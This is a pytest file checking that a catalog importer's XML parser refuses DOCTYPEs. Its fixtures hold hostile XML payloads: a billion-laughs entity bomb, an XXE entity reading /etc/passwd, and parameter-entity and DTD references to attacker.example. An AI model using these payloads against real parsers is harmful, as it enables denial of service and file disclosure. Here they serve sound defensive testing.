"""XML parsing refuses DOCTYPEs: entity expansion and external entities never happen."""

from __future__ import annotations

import time

import pytest

from rooms.catalog import CatalogError, import_gmc_xml
from rooms.catalog.safexml import parse_xml

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss xmlns:g="http://base.google.com/ns/1.0"><channel><item>
<g:id>A</g:id><title>&lol9;</title><g:price>1 USD</g:price>
<g:availability>in stock</g:availability></item></channel></rss>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss><channel><item><title>&xxe;</title></item></channel></rss>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss><channel/></rss>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/rss.dtd">
<rss><channel/></rss>
"""

REFUSED = "XML with a DOCTYPE or entity declarations is refused"


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, "<!DOCTYPE rss><rss/>"],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "plain-doctype"],
)
def test_doctype_is_refused(document: str) -> None:
    started = time.perf_counter()
    with pytest.raises(CatalogError) as info:
        import_gmc_xml(document.encode())
    assert str(info.value) == REFUSED
    assert time.perf_counter() - started < 1.0  # Refused up front, not after expanding.


def test_undeclared_entity_is_malformed() -> None:
    with pytest.raises(CatalogError) as info:
        parse_xml("<rss>&xxe;</rss>")
    assert str(info.value) == "not well-formed XML: undefined entity at line 1, column 6"


def test_namespaces_and_predefined_entities() -> None:
    root = parse_xml(
        '<a xmlns:g="urn:g" g:attr="1" plain="2">'
        "<g:b>x &amp; &#233;</g:b><c><![CDATA[<y>]]></c></a>"
    )
    assert root.tag == "a"
    assert root.attrib == {"{urn:g}attr": "1", "plain": "2"}
    b = root.find("{urn:g}b")
    c = root.find("c")
    assert b is not None and b.text == "x & é"
    assert c is not None and c.text == "<y>"
